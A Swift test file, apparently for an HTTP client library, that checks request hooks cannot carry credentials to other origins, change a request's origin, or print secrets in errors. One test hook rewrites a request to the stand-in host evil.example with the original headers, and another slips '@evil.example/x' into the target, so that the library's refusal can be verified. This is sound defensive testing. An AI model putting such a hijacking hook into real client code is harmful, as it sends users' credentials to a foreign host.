// SPDX-License-Identifier: Apache-2.0

import CumulusCore
import CumulusTesting
import HTTPTypes
import Synchronization
import TestSupport
import Testing

/// Hooks can't send secrets to another origin, or disguise their own failures as the request's.
@Suite struct HookSafetyTests {
    private struct Stamping: Sendable {
        func intercept(_ request: EncodedRequest, next: InterceptorChain) async throws -> TransportResponse {
            var stamped = request
            stamped.headers[.authorization] = "Bearer S"
            return try await next(stamped)
        }
    }

    private struct Hijacking: Authorizer {
        func evil(_ request: EncodedRequest) throws -> EncodedRequest {
            EncodedRequest(method: .get, url: try RequestURL("https://evil.example/"), headers: request.headers)
        }

        func authorize(_ request: inout EncodedRequest) async throws { request = try evil(request) }

        func intercept(_ request: EncodedRequest, next: InterceptorChain) async throws -> TransportResponse {
            try await next(evil(request))
        }
    }

    private struct Retargeting: Sendable {
        let target: String
        func intercept(_ request: EncodedRequest, next: InterceptorChain) async throws -> TransportResponse {
            var changed = request
            changed.target = target
            return try await next(changed)
        }
    }

    private let transport = StubTransport { request in
        request.request.target == "/away"
            ? .response(.found, headers: [.location: "https://b.example/x"]) : .text("ok")
    }
    private var site: Resource { Resource("https://a.example", transport: transport.watched) }

    @Test("an interceptor that keeps `next` sends nothing after it has returned")
    func keptNext() async throws {
        let kept = Mutex<(EncodedRequest, InterceptorChain)?>(nil)
        let site = site.with {
            $0.authorizers = [.bearer("secret")]
            $0.interceptors.append { request, next in
                kept.withLock { $0 = (request, next) }
                return try await next(request)
            }
        }
        #expect(try await site.get().text == "ok")
        let (request, next) = try #require(kept.withLock { $0 })
        await #expect(throws: (any Error).self) { try await next(request) }
        #expect(transport.requests.count == 1)
    }

    @Test("a field that an interceptor adds is not sent to another origin")
    func stampsStayBehind() async throws {
        let site = site
        site.setRules { $0.interceptors = [Stamping().intercept] }
        try await site["away"].get().requireSuccess()
        #expect(transport.requests.map { $0.headers[.authorization] } == ["Bearer S", nil])
    }

    /// Adds credentials in every part of a request, like a hook that ignores redirects.
    private struct Spilling: Sendable {
        var addsBody = false

        func intercept(_ request: EncodedRequest, next: InterceptorChain) async throws -> TransportResponse {
            var changed = request
            changed.target += request.target.utf8.contains(UInt8(ascii: "?")) ? "&key=S" : "?key=S"
            if addsBody { changed.body = .bytes(ByteChunk("password=S")) }
            return try await next(changed)
        }
    }

    @Test("an interceptor's addition to the target is not sent to another origin, or on the way back")
    func targetsStayBehind() async throws {
        let transport = StubTransport { request in
            switch request.request.target.prefix(5) {
            case "/away": .response(.found, headers: [.location: "https://b.example/back?x=1"])
            case "/back": .response(.found, headers: [.location: "https://a.example/home"])
            default: .text("ok")
            }
        }
        let site = Resource("https://a.example", transport: transport.watched) {
            $0.interceptors = [Spilling().intercept]
        }
        try await site["away"].get().requireSuccess()
        #expect(transport.requests.map(\.request.target) == ["/away?key=S", "/back?x=1", "/home"])
    }

    @Test("a body that an interceptor adds is refused at another origin, unless the policy allows it")
    func bodiesAreRefused() async throws {
        let transport = StubTransport { request in
            request.path == "/away" ? .response(.found, headers: [.location: "https://b.example/x"]) : .text("ok")
        }
        let site = Resource("https://a.example", transport: transport.watched) {
            $0.interceptors = [Spilling(addsBody: true).intercept]
        }
        let error = try await failure { try await site["away"].get() }
        #expect(error.code == .redirectRefused)
        #expect("\(error)".contains("https://b.example"))
        #expect(transport.requests.count == 1)
        site.setRules { $0.redirects.sendsBodiesToOtherOrigins = true }
        try await site["away"].get().requireSuccess()
        #expect(transport.requests.map(\.text) == ["password=S", "password=S", "password=S"])
    }

    @Test("no hook can change the origin")
    func noHookChangesTheOrigin() async {
        for isAuthorizer in [true, false] {
            let site = site
            if isAuthorizer {
                site.setRules { $0.authorizers = [.custom(Hijacking()), .bearer("S")] }
            } else {
                site.setRules { $0.interceptors = [Hijacking().intercept] }
            }
            site.setRules { $0.headers["X-Api-Key"] = "K" }
            await #expect(throws: CumulusError.self) { _ = try await site["x"].get() }
        }
        #expect(transport.requests.isEmpty)
    }

    @Test("a target that a hook changes must remain valid", arguments: ["@evil.example/x", "http://other/x", ""])
    func targetsStartWithASlash(target: String) async {
        let site = site
        site.setRules { $0.interceptors = [Retargeting(target: target).intercept] }
        do {
            _ = try await site.get()
            Issue.record("it was sent")
        } catch {
            #expect((error as? CumulusError)?.code == .invalidRequest)
        }
        #expect(transport.requests.isEmpty)
    }

    @Test func preflightsAndInterceptorsStayBehindALinkToAnotherOrigin() async throws {
        let site = site
        site.setRules {
            $0.interceptors = [Stamping().intercept]
            $0.preflights = [{ $0.headers["X-Api-Key"] = "K" }]
        }
        try await site.follow("https://b.example/").get().requireSuccess()
        #expect(transport.lastRequest?.headers[.authorization] == nil)
        #expect(transport.lastRequest?.headers["X-Api-Key"] == nil)
    }

    @Test("links to another origin and back don't restore credentials")
    func thereAndBack() async throws {
        let site = site
        site.setRules { $0.credentials = Credentials(user: "u", password: "p") }
        try await site.follow("https://b.example/").follow("https://a.example/x").get().requireSuccess()
        #expect(transport.lastRequest?.url == "https://a.example/x")
        #expect(transport.lastRequest?.headers[.authorization] == nil)
    }

    @Test func aHooksOwnFailureIsNotTheRequests() async {
        let other = StubTransport { _ in .text("no", status: .unauthorized) }
        let tokens = Resource("https://token.example", transport: other.watched)
        let site = site
        site.setRules { $0.preflights = [{ _ in try await tokens.get().requireSuccess() }] }
        do {
            _ = try await site.get()
            Issue.record("it was sent")
        } catch {
            let error = error as? CumulusError
            #expect(error?.code == .refused)
            #expect(error?.statusCode == nil)
            #expect((error?.cause as? CumulusError)?.statusCode == 401)
        }
    }

    @Test func theStatusIsJudgedBeforeTheValidators() async {
        struct Refused: Error {}
        let failing = StubTransport { _ in .text("no", status: .notFound) }
        let site = Resource("https://a.example", transport: failing.watched) {
            $0.validators = [{ _ in throw Refused() }]
        }
        do {
            _ = try await site.get(as: String.self)
            Issue.record("it was accepted")
        } catch {
            #expect((error as? CumulusError)?.code == .status)
        }
    }

    @Test("bytes are counted, not printed")
    func bytesAreNotPrinted() {
        let chunk = ByteChunk("hunter2")
        var dumped = ""
        dump(chunk, to: &dumped)
        #expect("\(chunk)" == "7 bytes")
        #expect(!dumped.contains("104") && dumped.contains("7 bytes"))
    }

    @Test("errors, drafts and history contain no secret")
    func nothingPrintsSecrets() async throws {
        let transport = StubTransport { request in
            request.request.target.hasPrefix("/r")
                ? .response(.found, headers: [.location: "/x?code=s3cret", .setCookie: "sid=s3cret"])
                : .failure(TransportFailure(.connect, "no"))
        }
        let site = Resource("https://a.example?token=s3cret", transport: transport.watched) {
            $0.credentials = Credentials(user: "u", password: "s3cret")
        }
        let printed = Printed()
        site.setRules {
            $0.preflights = [{ draft in printed.add("\(draft)", draft) }]
            $0.headers[.authorization] = "Basic s3cret"
        }
        do {
            _ = try await site["r"].get()
            Issue.record("it was answered")
        } catch {
            printed.add("\(error)", error)
        }
        printed.add("\(site.query) \(site.headers) \(site)", site.explain(\.headers))
        #expect(!printed.text.contains("s3cret"))
        #expect(printed.text.contains("https://a.example/r"))
    }

    @Test("a hook that sends requests which run the same hook ends with an error", .timeLimit(.minutes(10)))
    func endlessHooks() async throws {
        struct Endless: Authorizer {
            func intercept(_ request: EncodedRequest, next: InterceptorChain) async throws -> TransportResponse {
                try await request.resource?["token"].get().requireSuccess()
                return try await next(request)
            }
            func authorize(_ request: inout EncodedRequest) async throws {
                try await request.resource?["token"].get().requireSuccess()
            }
        }
        for edit in [
            { @Sendable (settings: inout Resource.Rules) in settings.interceptors = [Endless().intercept] },
            { @Sendable (settings: inout Resource.Rules) in settings.authorizers = [.custom(Endless())] },
            { @Sendable (settings: inout Resource.Rules) in
                settings.authorizers = [.custom(Endless())]
                settings.validators = [{ _ in }]
            },
            { @Sendable (settings: inout Resource.Rules) in
                settings.preflights = [{ try await $0.resource["token"].get().requireSuccess() }]
            },
        ] {
            let site = Resource("https://a.example", transport: StubTransport { _ in .text("") }.watched)
            site.setRules(edit)
            let started = Atomic(0)
            site.setRules {
                $0.observers.append(
                    CallObserver { event in
                        if case .started = event.kind { started.add(1, ordering: .relaxed) }
                    }
                )
            }
            let error = await #expect(throws: CumulusError.self) { try await site.get() }
            // Each counts once, however many of its hooks wait.
            #expect((32...33).contains(started.load(ordering: .relaxed)))
            #expect(error?.code == .wouldDeadlock && error?.cause == nil)
            #expect(site.runningCalls.isEmpty)
        }
    }

    @Test("the body of a refused redirect ends even if an interceptor has kept the response")
    func keptBodyOfARefusedRedirect() async throws {
        let transport = StubTransport { _ in
            .script([.chunk([1])], status: .found, headers: [.location: "http://a.example/"])
        }
        let kept = Mutex<TransportResponse?>(nil)
        let site = Resource("https://a.example", transport: transport.watched) { rules in
            rules.interceptors.append { request, next in
                let response = try await next(request)
                kept.withLock { $0 = response }
                return response
            }
        }
        let error = try await failure { try await site.get() }
        #expect(error.code == .redirectRefused && transport.cancelledBodies == 1)
        #expect(kept.withLock { $0?.head.status } == .found)
    }
}
